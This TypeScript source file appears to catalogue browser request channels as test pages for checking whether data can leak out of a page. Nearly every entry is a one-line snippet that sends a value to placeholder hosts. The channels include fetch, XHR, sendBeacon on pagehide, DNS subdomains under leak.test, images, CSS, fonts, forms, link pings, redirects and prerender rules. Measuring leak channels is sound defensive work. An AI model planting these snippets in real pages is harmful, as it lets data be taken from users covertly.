import type { Page } from './page.js'

const http = { leaves: 'http', control: 'servers' } as const

/** Requests that a script makes. */
export const scripted: readonly Page[] = [
  { id: 'fetch-url', ...http, code: `fetch(S + '/?q=' + v, { mode: 'no-cors' })` },
  { id: 'fetch-text', ...http, code: `fetch(S + '/a', { method: 'POST', body: v })` },
  {
    id: 'fetch-json-put',
    ...http,
    code: `fetch(S + '/a', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ v }) })`,
  },
  {
    id: 'fetch-form-urlencoded',
    ...http,
    code: `fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ v }) })`,
  },
  {
    id: 'fetch-multipart-text',
    ...http,
    code: `const f = new FormData(); f.append('a', v); fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: f })`,
  },
  {
    id: 'fetch-multipart-file',
    ...http,
    code: `const f = new FormData(); f.append('a', new File([v], 'a.bin')); fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: f })`,
  },
  {
    id: 'fetch-multipart-name',
    ...http,
    code: `const f = new FormData(); f.append('a', new File(['x'], v + '.txt')); fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: f })`,
  },
  { id: 'fetch-blob', ...http, code: `fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: new Blob(['x', v]) })` },
  {
    id: 'fetch-bytes',
    ...http,
    code: `fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: new TextEncoder().encode(v) })`,
  },
  { id: 'fetch-header', ...http, code: `fetch(S + '/a', { headers: { 'x-note': v } })` },
  {
    id: 'fetch-keepalive',
    ...http,
    code: `fetch(S + '/a', { method: 'POST', mode: 'no-cors', keepalive: true, body: v })`,
  },
  {
    id: 'fetch-large',
    ...http,
    code: `fetch(S + '/a', { method: 'POST', mode: 'no-cors', body: 'x'.repeat(300000) + v })`,
  },
  { id: 'fetch-tls', ...http, code: `fetch(T + '/a', { method: 'POST', mode: 'no-cors', body: v })` },
  { id: 'fetch-host', ...http, code: `fetch('http://' + v + '.leak.test/', { mode: 'no-cors' }).catch(() => {})` },
  { id: 'fetch-later', ...http, code: `fetchLater(T + '/later?' + v, { method: 'POST', body: v, activateAfter: 50 })` },
  { id: 'xhr-body', ...http, code: `const x = new XMLHttpRequest(); x.open('POST', S + '/a'); x.send(v)` },
  {
    id: 'xhr-header',
    ...http,
    code: `const x = new XMLHttpRequest(); x.open('GET', S + '/a'); x.setRequestHeader('x-note', v); x.send()`,
  },
  {
    id: 'xhr-document',
    ...http,
    code: `const x = new XMLHttpRequest(); x.open('POST', S + '/a'); const d = document.implementation.createHTMLDocument(v); x.send(d)`,
  },
  { id: 'beacon', ...http, code: `navigator.sendBeacon(S + '/b', v)` },
  { id: 'beacon-pagehide', ...http, code: `addEventListener('pagehide', () => navigator.sendBeacon(S + '/b', v))` },
  {
    id: 'beacon-pagehide-tls',
    ...http,
    code: `addEventListener('pagehide', () => navigator.sendBeacon(T + '/b', new Blob([v])))`,
  },
  {
    id: 'fetch-hidden',
    ...http,
    code: `document.addEventListener('visibilitychange', () => fetch(S + '/hidden', { method: 'POST', mode: 'no-cors', keepalive: true, body: v }))`,
  },
  { id: 'event-source', ...http, code: `new EventSource(S + '/events?' + v)` },
  { id: 'script-import', ...http, code: `import(S + '/m.js?' + v).catch(() => {})` },
  { id: 'fetch-cookie', ...http, code: `document.cookie = 'c=' + v; fetch('/blank.html')` },
  {
    id: 'referrer',
    ...http,
    code: `history.pushState(null, '', '?' + v); fetch(S + '/a', { referrerPolicy: 'unsafe-url', mode: 'no-cors' })`,
  },
]

/** Requests that follow from what stands in the page. */
export const elements: readonly Page[] = [
  { id: 'image', ...http, code: `new Image().src = S + '/i?' + v` },
  {
    id: 'image-srcset',
    ...http,
    code: `document.body.insertAdjacentHTML('beforeend', '<picture><source srcset="' + S + '/s?' + v + '"><img alt=""></picture>')`,
  },
  { id: 'image-input', ...http, code: `E('input', { type: 'image', src: S + '/i?' + v })` },
  {
    id: 'svg-image',
    ...http,
    code: `document.body.insertAdjacentHTML('beforeend', '<svg><image href="' + S + '/g?' + v + '" width="9" height="9"/></svg>')`,
  },
  {
    id: 'svg-use',
    ...http,
    code: `document.body.insertAdjacentHTML('beforeend', '<svg><filter id="f"><feImage href="' + S + '/g?' + v + '"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>')`,
  },
  { id: 'css-background', ...http, code: `E('div', { style: 'height:9px;background:url(' + S + '/c?' + v + ')' })` },
  { id: 'css-import', ...http, code: `E('style').textContent = '@import url(' + S + '/c.css?' + v + ')'` },
  { id: 'css-cursor', ...http, code: `E('div', { style: 'height:9px;content:url(' + S + '/c?' + v + ')' })` },
  { id: 'font-face', ...http, code: `new FontFace('z', 'url(' + S + '/f?' + v + ')').load().catch(() => {})` },
  { id: 'link-stylesheet', ...http, code: `E('link', { rel: 'stylesheet', href: S + '/l?' + v })` },
  { id: 'link-preload', ...http, code: `E('link', { rel: 'preload', as: 'image', href: S + '/l?' + v })` },
  { id: 'link-modulepreload', ...http, code: `E('link', { rel: 'modulepreload', href: S + '/l.js?' + v })` },
  { id: 'link-prefetch', ...http, code: `E('link', { rel: 'prefetch', href: S + '/l?' + v })` },
  { id: 'script-element', ...http, code: `E('script', { src: S + '/s.js?' + v })` },
  { id: 'iframe', ...http, code: `E('iframe', { src: S + '/if?' + v })` },
  { id: 'object', ...http, code: `E('object', { data: S + '/o?' + v })` },
  { id: 'embed', ...http, code: `E('embed', { src: S + '/e?' + v })` },
  { id: 'video', ...http, code: `E('video', { src: S + '/v?' + v, preload: 'auto' })` },
  { id: 'video-poster', ...http, code: `E('video', { poster: S + '/p?' + v })` },
  {
    id: 'video-track',
    ...http,
    code: `const o = E('video', { crossorigin: '' }); const t = E('track', { src: S + '/t.vtt?' + v, default: '' }, o); t.track.mode = 'showing'; o.src = S + '/v'`,
  },
  { id: 'audio', ...http, code: `new Audio(S + '/a?' + v).play().catch(() => {})` },
  {
    id: 'form-get',
    ...http,
    code: `const f = E('form', { action: S + '/f' }); E('input', { name: 'a', value: v }, f); f.submit()`,
  },
  {
    id: 'form-post',
    ...http,
    code: `const f = E('form', { action: S + '/f', method: 'post' }); E('input', { name: 'a', value: v }, f); f.submit()`,
  },
  {
    id: 'form-multipart-frame',
    ...http,
    code: `E('iframe', { name: 'n' }); const f = E('form', { action: S + '/f', method: 'post', enctype: 'multipart/form-data', target: 'n' }); E('input', { name: 'a', value: v }, f); f.submit()`,
  },
  { id: 'link-ping', ...http, code: `E('a', { href: '#x', ping: S + '/ping?' + v }).click()` },
  { id: 'location', ...http, code: `location.href = S + '/go?' + v` },
  { id: 'location-top', ...http, code: `top.location.replace(T + '/go?' + v)` },
  {
    id: 'meta-refresh',
    ...http,
    code: `E('meta', { 'http-equiv': 'refresh', content: '0;url=' + S + '/go?' + v }, document.head)`,
  },
  { id: 'window-open', ...http, code: `open(S + '/go?' + v)` },
  {
    id: 'link-click-blank',
    ...http,
    code: `E('a', { href: S + '/go?' + v, target: '_blank', rel: 'noopener' }).click()`,
  },
  {
    id: 'csp-report',
    ...http,
    csp: `img-src 'self'; report-uri http://collect.test/report`,
    code: `new Image().src = 'http://blocked.test/' + v`,
  },
  {
    id: 'prerender',
    ...http,
    code: `const s = E('script', { type: 'speculationrules' }, document.createElement('div')); s.textContent = JSON.stringify({ prerender: [{ source: 'list', urls: ['/blank.html?' + v], eagerness: 'immediate' }] }); document.head.append(s)`,
  },
]
